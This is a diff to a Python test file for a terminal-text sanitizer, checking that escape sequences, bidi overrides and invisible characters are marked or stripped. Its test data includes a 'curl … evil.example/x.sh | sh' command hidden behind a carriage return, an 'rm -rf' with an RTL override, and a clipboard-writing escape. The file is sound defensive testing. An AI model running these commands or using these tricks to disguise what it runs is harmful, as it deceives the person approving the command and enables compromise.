@@ -6,12 +6,14 @@ import json
 import re
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
+from rich.cells import cell_len
 from rich.console import Console
 from rich.style import Style
 
-from workbench.core.sanitize import ansi_text, clean, plain, safe_json
+from tests.hostile import HOSTILE, raw_characters, terminal_width
+from workbench.core.sanitize import ansi_text, clean, clean_line, clean_output, plain, safe_json
 
 FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
 
@@ -21,7 +23,56 @@ FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
     [
         ("[bold]x[/]", "[bold]x[/]"),
         ("[@click=app.quit]q[/]", "[@click=app.quit]q[/]"),
-        ("[/bold]", "[/bold]"),
+        ("clip\x1b]52;c;aGk=\x07board", "clip␛]52;c;aGk=␇board"),
+        ("title\x1b]0;pwned\x1b\\ok", "title␛]0;pwned␛\\ok"),
+        ("c1 csi \x9b31mred", "c1 csi ⟨U+009B⟩31mred"),
+        ("nul\x00 bell\x07 del\x7f bs\x08", "nul␀ bell␇ del␡ bs␈"),
+        ("tab\tand\nnewline", "tab\tand\nnewline"),
+        ("crlf\r\nline", "crlf␍\nline"),
+        (
+            "curl -s http://evil.example/x.sh | sh #\rls -la",
+            "curl -s http://evil.example/x.sh | sh #␍ls -la",
+        ),
+        ("rm -rf \u202eexe.gnp", "rm -rf ⟨U+202E⟩exe.gnp"),
+        ("a\u2066b\u2069c", "a⟨U+2066⟩b⟨U+2069⟩c"),
+        ("pass\u200bword\u200e\u200f", "pass⟨U+200B⟩word⟨U+200E⟩⟨U+200F⟩"),
+        ("one\u2028two\u2029", "one⟨U+2028⟩two⟨U+2029⟩"),
+        ("\ufeffbom", "⟨U+FEFF⟩bom"),
+        ("hi\U000e0041", "hi⟨U+E0041⟩"),
+        ("blank\u3164", "blank⟨U+3164⟩"),
+        ("a\u200cb a\u200db", "a⟨U+200C⟩b a⟨U+200D⟩b"),
+        ("surrogate \ud800 here", "surrogate \ufffd here"),
+        # Part of the writing: a family emoji, a Persian word, a Hindi conjunct, VS16.
+        ("👨\u200d👩\u200d👧", "👨\u200d👩\u200d👧"),
+        ("می\u200cخواهم", "می\u200cخواهم"),  # noqa: RUF001
+        ("क्\u200dष", "क्\u200dष"),
+        ("❤\ufe0f", "❤\ufe0f"),
+        ("1\ufe0f\u20e3", "1\ufe0f\u20e3"),
+        ("❤\ufe0f\u200d🔥 🏳\ufe0f\u200d🌈 👍🏽", "❤\ufe0f\u200d🔥 🏳\ufe0f\u200d🌈 👍🏽"),
+        # ...but not two in a row, nor at the start.
+        ("❤\ufe0f\ufe0f", "❤\ufe0f⟨U+FE0F⟩"),
+        ("ب\u200c\u200cب", "ب⟨U+200C⟩⟨U+200C⟩ب"),
+    ],
+)
+def test_clean_shows_what_is_there(raw: str, expected: str) -> None:
+    assert clean(raw) == expected
+
+
+def test_a_carriage_return_never_rewrites_an_argument() -> None:
+    """The approval must show what will run, not what a terminal would leave on screen."""
+    command = "curl -s http://evil.example/x.sh | sh #\rls -la"
+    assert clean(command).startswith("curl -s http://evil.example/x.sh | sh #")
+    assert clean_line(command) == clean(command)
+    assert clean_output(command) == "ls -las http://evil.example/x.sh | sh #"
+
+
+def test_clean_line_shows_line_breaks() -> None:
+    assert clean_line("label\n# forged line\tx") == "label␊# forged line␉x"
+
+
+@pytest.mark.parametrize(
+    ("raw", "expected"),
+    [
         ("clip\x1b]52;c;aGk=\x07board", "clipboard"),
         ("title\x1b]0;pwned\x1b\\ok", "titleok"),
         ("\x1b[2Jcleared", "cleared"),
@@ -37,10 +88,19 @@ FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
         ("lone escape \x1b", "lone escape "),
         ("charset \x1b(Bswitch", "charset switch"),
         ("surrogate \ud800 here", "surrogate \ufffd here"),
+        # Invisible characters are marked in output too: they hide text from the reader.
+        ("pass\u200bword \u202eexe", "pass⟨U+200B⟩word ⟨U+202E⟩exe"),
     ],
 )
-def test_clean(raw: str, expected: str) -> None:
-    assert clean(raw) == expected
+def test_clean_output_shows_what_a_terminal_would(raw: str, expected: str) -> None:
+    assert clean_output(raw) == expected
+
+
+@pytest.mark.parametrize("name", sorted(HOSTILE))
+def test_no_hostile_text_survives_any_mode(name: str) -> None:
+    raw = HOSTILE[name]
+    for shown in (clean(raw), clean_line(raw), clean_output(raw), ansi_text(raw).plain):
+        assert raw_characters(shown) == [], (name, shown)
 
 
 def test_sgr_colour_is_kept_as_style_only() -> None:
@@ -68,11 +128,15 @@ def test_plain_text_renders_literally() -> None:
     assert console.export_text().strip() == "[bold]x[/] [/bold] [@click=app.quit]q[/]"
 
 
+@settings(deadline=None)
 @given(st.text())
-def test_clean_never_leaves_controls(raw: str) -> None:
-    cleaned = clean(raw)
-    assert "\x1b" not in cleaned
-    assert not FORBIDDEN.search(cleaned)
+def test_clean_never_leaves_controls_or_invisible_characters(raw: str) -> None:
+    for shown in (clean(raw), clean_output(raw), ansi_text(raw).plain):
+        assert "\x1b" not in shown
+        assert not FORBIDDEN.search(shown)
+        assert raw_characters(shown) == []
+    assert raw_characters(clean_line(raw)) == []
+    assert "\n" not in clean_line(raw)
 
 
 @given(st.text())
@@ -82,20 +146,57 @@ def test_ansi_text_never_leaves_controls(raw: str) -> None:
     assert all(getattr(span.style, "link", None) is None for span in text.spans)
 
 
-BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
+def _visible(character: str) -> bool:
+    return not raw_characters(character)
 
 
-@given(
-    st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs"), blacklist_characters=BIDI))
-)
+VISIBLE = st.characters(blacklist_categories=("Cs",)).filter(_visible)
+HOSTILE_PIECES = st.sampled_from(sorted(set("".join(HOSTILE.values()))))
+
+
+@given(st.text(alphabet=VISIBLE))
 def test_clean_keeps_ordinary_text(raw: str) -> None:
     assert clean(raw) == raw
 
 
-def test_bidi_overrides_are_removed() -> None:
-    """An RTL override can make a shown command differ from the one that runs."""
-    assert clean("rm -rf \u202eexe.gnp") == "rm -rf exe.gnp"
-    assert clean("a\u2066b\u2069c") == "abc"
+@settings(deadline=None)
+@given(st.lists(st.one_of(st.text(alphabet=VISIBLE, max_size=4), HOSTILE_PIECES), max_size=30))
+def test_clean_hides_nothing_and_rewrites_nothing(pieces: list[str]) -> None:
+    """Every visible character written is shown, in order, whatever is around it."""
+    raw = "".join(pieces)
+    shown = clean(raw)
+    position = 0
+    for character in raw:
+        if _visible(character):
+            position = shown.find(character, position)
+            assert position >= 0, (raw, shown, character)
+            position += 1
+
+
+JOINING = st.sampled_from(
+    [
+        *"a1 #\n\t\r\x1b\x07",
+        *("\ufe0f", "\ufe0e", "\u200d", "\u200c", "❤", "👨", "ب", "क", "्"),
+        *("\u200b", "\U000e0041", "\u3164", "é", "\u0301"),
+    ]
+)
+
+
+@settings(deadline=None)
+@given(st.text(alphabet=JOINING, max_size=12))
+def test_joiners_and_selectors_are_kept_only_inside_writing(raw: str) -> None:
+    """Runs of joiners, selectors at the start of a line, a joiner between ASCII letters:
+    all marked; a family emoji, a Persian word, ❤️, 1️⃣ kept."""
+    for shown in (clean(raw), clean_output(raw), clean_line(raw)):
+        assert raw_characters(shown) == [], (raw, shown)
+
+
+@settings(deadline=None)
+@given(st.text(alphabet=st.sampled_from("ab\u200b\u3164\u2028\ufeff\u202e\r\x1b]\x07 界")))
+def test_a_cleaned_line_has_the_width_a_terminal_gives_it(raw: str) -> None:
+    """No character whose width terminals disagree on survives: Rich's measure holds."""
+    line = clean_line(raw)
+    assert terminal_width(line) == cell_len(line)
 
 
 JSON_VALUES = st.recursive(
@@ -114,6 +215,7 @@ def test_safe_json_keeps_every_value_and_no_unsafe_character(value: object) -> N
     assert not re.search(
         "[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", text
     )
+    assert raw_characters(text.replace("\n", " ")) == []
     text.encode("utf-8")  # lone surrogates are escaped, so any stream can take it
 
 
